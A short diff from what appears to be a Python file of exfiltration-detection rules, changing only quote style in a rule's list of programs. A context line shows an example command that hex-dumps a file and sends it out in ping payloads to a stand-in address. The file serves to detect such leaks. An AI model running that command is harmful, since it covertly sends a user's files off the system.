@@ -251,7 +251,7 @@ CARRIER = Rule(
         "xxd -p -c 16 f | while read l; do ping -c1 -p $l 203.0.113.9; done",
     ),
     match=_odd_carrier,
-    programs=frozenset({'whois', 'ping'}),
+    programs=frozenset({"whois", "ping"}),
 )  # fmt: skip
 SENDER = Rule(
     slug="file-sender",
